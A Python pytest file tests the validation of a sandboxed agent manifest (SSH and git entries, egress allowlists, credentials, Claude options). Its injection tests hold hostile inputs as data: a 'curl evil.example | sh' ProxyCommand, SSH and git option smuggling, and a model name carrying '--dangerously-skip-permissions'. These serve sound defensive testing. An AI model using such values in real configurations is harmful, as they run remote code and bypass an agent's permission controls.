from __future__ import annotations

from typing import Any

import bottle_manifest as bm
import pytest
from manifest_helpers import ED25519, KNOWN_HOST_KEY, issues_of, manifest, ssh_entry


def one_issue(write, home, data) -> tuple[str, str]:
    found = issues_of(write, home, data)
    assert len(found) == 1, found
    return found[0]


def load_ok(write, home, data) -> bm.Manifest:
    return bm.load(write(data), home=home)


@pytest.mark.parametrize(
    ("data", "path", "hint"),
    [
        ({"botles": {}}, "botles", "did you mean 'bottles'?"),
        ({"bottles": {"dev": {"evn": {}}}}, "bottles.dev.evn", "did you mean 'env'?"),
        (manifest(ssh=[ssh_entry(Prot=22)]), "bottles.dev.ssh[0].Prot", "did you mean 'Port'?"),
        (manifest(ssh=[ssh_entry(hostname="x")]), "bottles.dev.ssh[0].hostname", "did you mean 'Hostname'?"),
        (manifest(egress={"allowlsit": []}), "bottles.dev.egress.allowlsit", "did you mean 'allowlist'?"),
        (
            {"agents": {"a": {"bottle": "b", "skils": []}}, "bottles": {"b": {}}},
            "agents.a.skils",
            "did you mean 'skills'?",
        ),
    ],
)
def test_unknown_keys_are_errors_with_a_hint(write, home, data, path, hint):
    got_path, message = one_issue(write, home, data)
    assert got_path == path
    assert message.startswith("unknown key") and message.endswith(hint)


def test_unknown_key_without_close_match_lists_the_allowed_keys(write, home):
    path, message = one_issue(write, home, manifest(egress={"zzz": 1}))
    assert path == "bottles.dev.egress.zzz"
    assert "allowed: allowlist" in message


def test_schema_key_is_allowed(write, home):
    loaded = load_ok(write, home, {"$schema": "./docs/manifest.schema.json", **manifest()})
    assert loaded.agent("helper").bottle_name == "dev"


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        (ssh_entry(Port=0), "0 is out of range"),
        (ssh_entry(Port=65536), "65536 is out of range"),
        (ssh_entry(Port="22"), "expected a whole number, got a string"),
        (ssh_entry(Port=True), "expected a whole number, got a boolean"),
    ],
)
def test_port_type_and_range(write, home, entry, message):
    path, got = one_issue(write, home, manifest(ssh=[entry]))
    assert path == "bottles.dev.ssh[0].Port"
    assert message in got


def test_port_bounds_are_accepted(write, home):
    loaded = load_ok(write, home, manifest(ssh=[ssh_entry(Port=1), ssh_entry(Host="b", Port=65535)]))
    assert [e.port for e in loaded.bottles["dev"].bottle.ssh] == [1, 65535]


def test_required_keys(write, home):
    entry = ssh_entry()
    del entry["KnownHostKey"]
    assert one_issue(write, home, manifest(ssh=[entry])) == ("bottles.dev.ssh[0].KnownHostKey", "this key is required")


def test_types_of_sections(write, home):
    found = issues_of(write, home, {"bottles": {"dev": {"env": [], "ssh": {}}}, "agents": []})
    assert ("bottles.dev.env", "expected an object, got a list") in found
    assert ("bottles.dev.ssh", "expected a list, got an object") in found
    assert ("agents", "expected an object, got a list") in found


def test_the_document_must_be_an_object(write, home):
    assert one_issue(write, home, "[1]") == ("$", "the manifest must be a JSON object, got a list")


def test_invalid_json_names_line_and_column(write, home):
    path, message = one_issue(write, home, '{\n  "bottles": nope\n}')
    assert path == "$"
    assert message.startswith("invalid JSON") and "line 2" in message


def test_duplicate_key_is_reported(write, home):
    path, message = one_issue(write, home, '{"bottles": {}, "bottles": {}}')
    assert path == "$"
    assert "duplicate key 'bottles'" in message


def test_host_aliases_are_unique_within_a_bottle(write, home):
    git = {**ssh_entry(), "Repos": ["o/r"]}
    path, message = one_issue(write, home, manifest(ssh=[ssh_entry()], git=[git]))
    assert path == "bottles.dev.git[0].Host"
    assert "'gitea' is already used by ssh[0]" in message


def test_agent_bottle_must_exist_and_lists_the_bottles(write, home):
    data = {"bottles": {"b1": {}, "b2": {}}, "agents": {"a": {"bottle": "nope"}}}
    assert one_issue(write, home, data) == ("agents.a.bottle", "bottle 'nope' does not exist; bottles: b1, b2")


@pytest.mark.parametrize(
    "key",
    [
        KNOWN_HOST_KEY,
        f"ssh-ed25519 {ED25519}",
        f"[gitea.example.com]:30009 ssh-ed25519 {ED25519}",
        f"gitea,10.0.0.5 ssh-ed25519 {ED25519} a comment",
    ],
)
def test_known_host_key_forms_are_accepted(write, home, key):
    loaded = load_ok(write, home, manifest(ssh=[ssh_entry(KnownHostKey=key)]))
    stored = loaded.bottles["dev"].bottle.ssh[0].known_host_key
    assert stored.endswith(f"ssh-ed25519 {ED25519}")


@pytest.mark.parametrize(
    ("key", "words"),
    [
        ("just-one-field", "expected a known_hosts line"),
        (f"host ssh-dss {ED25519}", "key type 'ssh-dss' is not one OpenSSH accepts"),
        (f"host ssh-foo {ED25519}", "key type 'ssh-foo'"),
        ("host ssh-ed25519 not*base64", "not valid base64"),
        (f"host ssh-rsa {ED25519}", "the key data is not a ssh-rsa key"),
        ("host ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBci", "does not parse"),
        (f"@cert-authority host ssh-ed25519 {ED25519}", "markers"),
    ],
)
def test_bad_known_host_keys(write, home, key, words):
    path, message = one_issue(write, home, manifest(ssh=[ssh_entry(KnownHostKey=key)]))
    assert path == "bottles.dev.ssh[0].KnownHostKey"
    assert words in message


def test_extra_hosts_values_are_ip_addresses(write, home):
    entry = ssh_entry(
        ExtraHosts={"gitea.example.com": "100.64.0.7", "v6.example.com": "fd00::1", "x.example.com": "nope"}
    )
    assert one_issue(write, home, manifest(ssh=[entry])) == (
        "bottles.dev.ssh[0].ExtraHosts['x.example.com']",
        "'nope' is not an IP address",
    )


def test_git_entries_need_repos_in_owner_name_form(write, home):
    git = {**ssh_entry(Host="forge"), "Repos": ["ok/repo", "nested/group/repo.git", "noslash", "../etc"]}
    found = issues_of(write, home, manifest(git=[git]))
    assert found == [
        ("bottles.dev.git[0].Repos[2]", "'noslash' is not a repository path; write 'owner/name'"),
        ("bottles.dev.git[0].Repos[3]", "'../etc' is not a repository path; write 'owner/name'"),
    ]
    empty = {**ssh_entry(Host="forge"), "Repos": []}
    assert one_issue(write, home, manifest(git=[empty])) == ("bottles.dev.git[0].Repos", "the list must not be empty")


def test_git_repo_paths_are_normalised(write, home):
    git = {**ssh_entry(Host="forge"), "Repos": ["a/b.git", "/c/d/"]}
    loaded = load_ok(write, home, manifest(git=[git]))
    assert loaded.bottles["dev"].bottle.git[0].repos == ["a/b", "c/d"]
    assert loaded.bottles["dev"].bottle.git[0].user == "git"


def test_allowlist_entries_are_normalised(write, home):
    loaded = load_ok(write, home, manifest(egress={"allowlist": ["GitHub.COM.", "Bücher.de", "*.Example.org"]}))
    assert loaded.bottles["dev"].bottle.egress.allowlist == ["github.com", "xn--bcher-kva.de", "*.example.org"]


@pytest.mark.parametrize(
    ("entry", "words"),
    [
        ("https://github.com/foo", "has a scheme; write just the host name, e.g. 'github.com'"),
        ("github.com/foo", "has a path; the allowlist takes host names, e.g. 'github.com'"),
        ("github.com:443", "has a port; every port is allowed, so write just 'github.com'"),
        ("10.1.2.3", "is an IP address"),
        ("::1", "is an IP address"),
        ("git*hub.com", "wildcard is allowed only as a leading '*.'"),
        ("*.com", "whole top-level domain"),
        ("bad_host!.com", "not a valid host name"),
        ("", "empty host name"),
    ],
)
def test_bad_allowlist_entries_say_what_to_write(write, home, entry, words):
    path, message = one_issue(write, home, manifest(egress={"allowlist": ["ok.com", entry]}))
    assert path == "bottles.dev.egress.allowlist[1]"
    assert words in message


def test_env_names_and_interpolation_syntax(write, home):
    found = issues_of(write, home, manifest(env={"OK": "${A}", "bad-name": "x", "B": "${", "C": "${1X}", "D": "?${"}))
    assert found == [
        (
            "bottles.dev.env.bad-name",
            "invalid key: 'bad-name' is not a valid environment variable name; use letters, digits and '_'",
        ),
        ("bottles.dev.env.B", "'${' at position 0 has no closing '}'; write '$$' for a literal '$'"),
        ("bottles.dev.env.C", "'${1X}' is not a valid variable name; use letters, digits and '_'"),
    ]


def test_env_values_must_be_strings_or_credentials(write, home):
    assert one_issue(write, home, manifest(env={"A": 5})) == (
        "bottles.dev.env.A",
        "expected a string or an object with 'value' and 'hosts', got a number",
    )


@pytest.mark.parametrize(
    ("entry", "issues"),
    [
        ({"value": "x"}, [("bottles.dev.env.A.hosts", "this key is required")]),
        ({"value": "x", "hosts": []}, [("bottles.dev.env.A.hosts", "the list must not be empty")]),
        (
            {"value": "x", "hosts": ["a.com"], "host": "b"},
            [("bottles.dev.env.A.host", "unknown key 'host'; did you mean 'hosts'?")],
        ),
        (
            {"value": "x", "hosts": ["https://a.com"]},
            [("bottles.dev.env.A.hosts[0]", "'https://a.com' has a scheme; write just the host name, e.g. 'a.com'")],
        ),
        (
            {"value": "${", "hosts": ["a.com"]},
            [("bottles.dev.env.A.value", "'${' at position 0 has no closing '}'; write '$$' for a literal '$'")],
        ),
    ],
)
def test_credential_entries_are_checked_like_everything_else(write, home, entry, issues):
    assert issues_of(write, home, manifest(env={"A": entry})) == issues


def test_names_of_bottles_and_agents(write, home):
    found = issues_of(write, home, {"bottles": {"has space": {}}, "agents": {"-x": {"bottle": "has space"}}})
    paths = [path for path, _ in found]
    assert "bottles['has space']" in paths
    assert "agents['-x']" in paths or "agents.-x" in paths


def test_skill_names_cannot_be_paths(write, home):
    data = {"bottles": {"b": {}}, "agents": {"a": {"bottle": "b", "skills": ["ok", "../../etc"]}}}
    path, message = one_issue(write, home, data)
    assert path == "agents.a.skills[1]"
    assert "not a skill name" in message


def test_all_errors_are_reported_across_files(write, home):
    write({"bottles": {"h": {"egress": {"allowlist": ["http://x.com"]}}}}, "home/claude-bottle.json")
    project = write(
        {
            "bottles": {"dev": {"ssh": [ssh_entry(Port=0, Prot=1)]}},
            "agents": {"a": {"bottle": "missing"}, "b": {"bottle": "h", "skils": []}},
        }
    )
    with pytest.raises(bm.ManifestError) as info:
        bm.load(project, home=home)
    got = {(issue.file.rsplit("/", 2)[-2], issue.path) for issue in info.value.issues}
    assert got == {
        ("home", "bottles.h.egress.allowlist[0]"),
        ("project", "bottles.dev.ssh[0].Port"),
        ("project", "bottles.dev.ssh[0].Prot"),
        ("project", "agents.a.bottle"),
        ("project", "agents.b.skils"),
    }
    for line in str(info.value).splitlines():
        file, path, message = line.split(": ", 2)
        assert file.endswith("claude-bottle.json") and path and message


def test_pipelock_cannot_carry_credentials(write, home):
    egress = {"backend": "pipelock"}
    assert one_issue(write, home, manifest(egress=egress, env={"T": {"value": "x", "hosts": ["a.com"]}}))[0] == (
        "bottles.dev.env.T"
    )
    # A plain value is fine: the bottle loads with that backend and that value.
    bottle = load_ok(write, home, manifest(egress=egress, env={"T": "plain"})).bottles["dev"].bottle
    assert (bottle.egress.backend, bottle.env) == ("pipelock", {"T": "plain"})


def _agent_with(claude: Any) -> dict[str, Any]:
    return {"bottles": {"dev": {}}, "agents": {"helper": {"bottle": "dev", "claude": claude}}}


@pytest.mark.parametrize(
    ("claude", "path", "needle"),
    [
        (
            {"permision_mode": "bypassPermissions"},
            "agents.helper.claude.permision_mode",
            "did you mean 'permission_mode'?",
        ),
        ({"permission_mode": "yolo"}, "agents.helper.claude.permission_mode", "bypassPermissions"),
        ({"model": "sonnet --dangerously-skip-permissions"}, "agents.helper.claude.model", "not a model name"),
        ({"model": "-p"}, "agents.helper.claude.model", "not a model name"),
        ({"model": ""}, "agents.helper.claude.model", "not a model name"),
    ],
)
def test_claude_options_are_checked_with_their_path(write, home, claude, path, needle):
    got_path, message = one_issue(write, home, _agent_with(claude))
    assert got_path == path
    assert needle in message


def test_claude_options_load(write, home):
    options = {"permission_mode": "bypassPermissions", "model": "claude-sonnet-4-5"}
    agent = load_ok(write, home, _agent_with(options)).agent("helper").agent
    assert agent.claude.permission_mode == "bypassPermissions"
    assert agent.claude.model == "claude-sonnet-4-5"


INJECTED = "ProxyCommand sh -c 'curl evil.example | sh'"


def git_entry(**overrides: Any) -> dict[str, Any]:
    entry = {**ssh_entry(), "Repos": ["demo/app"]}
    entry.update(overrides)
    return entry


_INJECTIONS = [
    ("User", f"git\n  {INJECTED}"),
    ("User", f"git {INJECTED}"),
    ("User", "-oProxyCommand=touch /tmp/x"),
    ("User", "git@evil.example"),
    ("User", "git\tx"),
    ("User", ""),
    ("Host", f"gitea\n  {INJECTED}"),
    ("Host", "gitea *"),
    ("Hostname", f"gitea.example.com\n  {INJECTED}"),
    ("Hostname", "-oProxyCommand=x"),
    ("ExtraHosts", {"gitea.example.com\nProxyCommand x": "192.0.2.1"}),
    ("ExtraHosts", {"gitea.example.com": "192.0.2.1\nProxyCommand x"}),
]
_REPO_INJECTIONS = [("Repos", ["demo/app\n[core]\n\tsshCommand = x"]), ("Repos", ["demo/app --upload-pack=x"])]


@pytest.mark.parametrize(
    ("section", "key", "value"),
    [("ssh", k, v) for k, v in _INJECTIONS] + [("git", k, v) for k, v in _INJECTIONS + _REPO_INJECTIONS],
)
def test_values_written_into_config_files_cannot_inject_lines_or_options(write, home, section, key, value):
    entry = (ssh_entry if section == "ssh" else git_entry)(**{key: value})
    found = issues_of(write, home, manifest(**{section: [entry]}))
    assert found and all(path.startswith(f"bottles.dev.{section}[0].{key}") for path, _ in found), found


@pytest.mark.parametrize("user", ["git", "deploy.bot", "svc_ci-01", "a"])
def test_ordinary_user_names_load(write, home, user):
    loaded = load_ok(write, home, manifest(ssh=[ssh_entry(User=user)], git=[git_entry(Host="forge", User=user)]))
    bottle = loaded.bottles["dev"].bottle
    assert bottle.ssh[0].user == bottle.git[0].user == user


@pytest.mark.parametrize(
    ("section", "overrides", "where", "address"),
    [
        ("ssh", {"ExtraHosts": {"gitea.example.com": "100.64.0.7"}}, "ExtraHosts['gitea.example.com']", "100.64.0.7"),
        ("git", {"ExtraHosts": {"gitea.example.com": "fd00::1"}}, "ExtraHosts['gitea.example.com']", "fd00::1"),
        ("ssh", {"Hostname": "10.1.2.3"}, "Hostname", "10.1.2.3"),
        ("git", {"Hostname": "169.254.169.254"}, "Hostname", "169.254.169.254"),
        ("ssh", {"Hostname": "127.0.0.1"}, "Hostname", "127.0.0.1"),
    ],
)
def test_an_upstream_pinned_to_an_internal_address_needs_allow_cidrs(write, home, section, overrides, where, address):
    entry = (ssh_entry if section == "ssh" else git_entry)(**overrides)
    path, message = one_issue(write, home, manifest(**{section: [entry]}))
    assert path == f"bottles.dev.{section}[0].{where}"
    assert f"{address} is an internal address" in message and "bottles.dev.egress.allow_cidrs" in message
    # Granted, it loads with the address pinned; and a public address never needed it.
    network = "fd00::/64" if ":" in address else f"{address}/32"
    granted = load_ok(write, home, manifest(**{section: [entry]}, egress={"allow_cidrs": [network]}))
    assert pinned(granted, section) == (entry["Hostname"], entry.get("ExtraHosts", {}), [network])
    public = {k: ("1.1.1.1" if k == "Hostname" else {"gitea.example.com": "8.8.8.8"}) for k in overrides}
    public_entry = (ssh_entry if section == "ssh" else git_entry)(**public)
    loaded = load_ok(write, home, manifest(**{section: [public_entry]}))
    assert pinned(loaded, section) == (public_entry["Hostname"], public_entry.get("ExtraHosts", {}), [])


def pinned(loaded: bm.Manifest, section: str) -> tuple[str, dict[str, str], list[str]]:
    """Where the loaded bottle's first `section` entry goes (Hostname, ExtraHosts), and the
    ranges its gates may dial (allow_cidrs)."""
    bottle = loaded.bottles["dev"].bottle
    entry = getattr(bottle, section)[0]
    return entry.hostname, entry.extra_hosts, bottle.egress.allow_cidrs


def test_checkouts_name_repositories_the_bottle_serves_once(write, home):
    bottle = {"git": [git_entry(Host="forge", Repos=["demo/app", "other/app", "demo/docs"])]}
    agents = {"helper": {"bottle": "dev", "checkout": ["demo/app", "nope/missing", "other/app", "demo/docs.git"]}}
    found = issues_of(write, home, {"bottles": {"dev": bottle}, "agents": agents})
    assert found == [
        (
            "agents.helper.checkout[1]",
            "'nope/missing' is not a repository of bottle 'dev''s git entries; "
            "they serve: demo/app, other/app, demo/docs",
        ),
        ("agents.helper.checkout[2]", "'other/app' would be checked out into 'app', like 'demo/app'; list it once"),
    ]
    agents["helper"]["checkout"] = ["demo/app", "demo/docs"]
    loaded = load_ok(write, home, {"bottles": {"dev": bottle}, "agents": agents})
    assert loaded.agent("helper").agent.checkout == ["demo/app", "demo/docs"]
    assert [bm.checkout_folder(r) for r in ["demo/app", "a/b/c.git"]] == ["app", "c"]


# -- method-and-path rules: allowlist entries that are objects -------------------------------


def test_rule_entries_are_normalised_and_join_the_allowlist(write, home):
    rule = {"host": "API.GitHub.com.", "methods": ["get", "HEAD", "Get"], "paths": ["/repos/acme/*", "/user/"]}
    allowlist = ["pypi.org", rule, {"host": "*.Example.org", "paths": ["/**"]}]
    spec = load_ok(write, home, manifest(egress={"allowlist": allowlist})).agent("helper")
    first, second = spec.egress_rules
    assert (first.host, first.methods, first.paths) == ("api.github.com", ["GET", "HEAD"], ["/repos/acme/*", "/user"])
    assert (second.host, second.methods, second.paths) == ("*.example.org", [], ["/**"])
    assert spec.bottle.egress.hosts == ["pypi.org", "api.github.com", "*.example.org"]
    assert {"pypi.org", "api.github.com", "*.example.org", *bm.DEFAULT_EGRESS_ALLOWLIST} == set(spec.egress_allowlist)


@pytest.mark.parametrize(
    ("entry", "where", "words"),
    [
        ({"host": "a.com"}, "", "give 'methods', 'paths' or both; to allow every request to a.com, write just 'a.com'"),
        ({"host": "a.com", "methods": []}, ".methods", "the list must not be empty"),
        ({"host": "a.com", "paths": []}, ".paths", "the list must not be empty"),
        ({"methods": ["GET"]}, ".host", "this key is required"),
        ({"host": "a.com", "method": ["GET"]}, ".method", "did you mean 'methods'?"),
        ({"host": "https://a.com", "methods": ["GET"]}, ".host", "has a scheme; write just the host name"),
        ({"host": "10.0.0.1", "methods": ["GET"]}, ".host", "is an IP address; the allowlist takes host names only"),
        ({"host": "a.com", "methods": ["G ET"]}, ".methods[0]", "'G ET' is not an HTTP method"),
        ({"host": "a.com", "methods": "GET"}, ".methods", "expected a list, got a string"),
        ({"host": "a.com", "paths": ["repos/*"]}, ".paths[0]", "start it with '/'"),
        ({"host": "a.com", "paths": ["/a?b=1"]}, ".paths[0]", "the query is not matched"),
        ({"host": "a.com", "paths": ["/a#top"]}, ".paths[0]", "the fragment is not matched"),
        ({"host": "a.com", "paths": ["/a%2Fb"]}, ".paths[0]", "patterns match the decoded path"),
        ({"host": "a.com", "paths": ["/a\\b"]}, ".paths[0]", "has a backslash"),
        ({"host": "a.com", "paths": ["/a//b"]}, ".paths[0]", "has an empty segment"),
        ({"host": "a.com", "paths": ["/a/../b"]}, ".paths[0]", "has a '..' segment"),
        ({"host": "a.com", "paths": ["/a/**/b"]}, ".paths[0]", "'**' (any rest of the path) may only be the last"),
        ({"host": "a.com", "paths": ["/repos/acme-*"]}, ".paths[0]", "'*' stands for a whole segment"),
        (5, "", "expected a host name or an object with 'host' and 'methods' or 'paths', got a number"),
    ],
)
def test_bad_rule_entries_say_where_and_why(write, home, entry, where, words):
    path, message = one_issue(write, home, manifest(egress={"allowlist": ["ok.com", entry]}))
    assert path == f"bottles.dev.egress.allowlist[1]{where}"
    assert words in message


def test_a_plain_entry_beside_a_rule_for_the_same_host_is_an_error(write, home):
    allowlist = ["api.github.com", {"host": "api.github.com", "methods": ["GET"]}]
    path, message = one_issue(write, home, manifest(egress={"allowlist": allowlist}))
    assert path == "bottles.dev.egress.allowlist[1]"
    assert "also a plain entry (allowlist[0])" in message and "would never apply" in message
    # A wider plain entry is fine: the rule's own name is more specific and decides for it.
    load_ok(write, home, manifest(egress={"allowlist": ["*.github.com", allowlist[1]]}))


@pytest.mark.parametrize(
    ("allowlist", "passthrough"),
    [
        ([{"host": "api.github.com", "methods": ["GET"]}], ["api.github.com"]),
        ([{"host": "*.github.com", "methods": ["GET"]}], ["api.github.com"]),  # decided by the rule
        ([{"host": "api.github.com", "paths": ["/x"]}], ["*.github.com"]),
        ([{"host": "*.a.github.com", "paths": ["/x"]}], ["*.github.com"]),
    ],
)
def test_rules_for_a_passthrough_host_are_refused_with_the_reason(write, home, allowlist, passthrough):
    path, message = one_issue(write, home, manifest(egress={"allowlist": allowlist, "passthrough": passthrough}))
    assert path == "bottles.dev.egress.allowlist[0]"
    assert "passthrough[0]" in message and "never sees a request's method or path" in message


def test_a_passthrough_name_with_a_plain_entry_of_its_own_is_not_under_a_wider_rule(write, home):
    allowlist = [{"host": "*.github.com", "methods": ["GET"]}, "pinned.github.com"]
    load_ok(write, home, manifest(egress={"allowlist": allowlist, "passthrough": ["pinned.github.com"]}))


def test_pipelock_cannot_enforce_rules(write, home):
    egress = {"backend": "pipelock", "allowlist": ["a.com", {"host": "b.com", "methods": ["GET"]}]}
    path, message = one_issue(write, home, manifest(egress=egress))
    assert path == "bottles.dev.egress.allowlist[1]"
    assert "need the mitmproxy egress backend: pipelock cannot enforce them" in message
    # Plain entries are fine with pipelock.
    load_ok(write, home, manifest(egress={"backend": "pipelock", "allowlist": ["a.com", "b.com"]}))
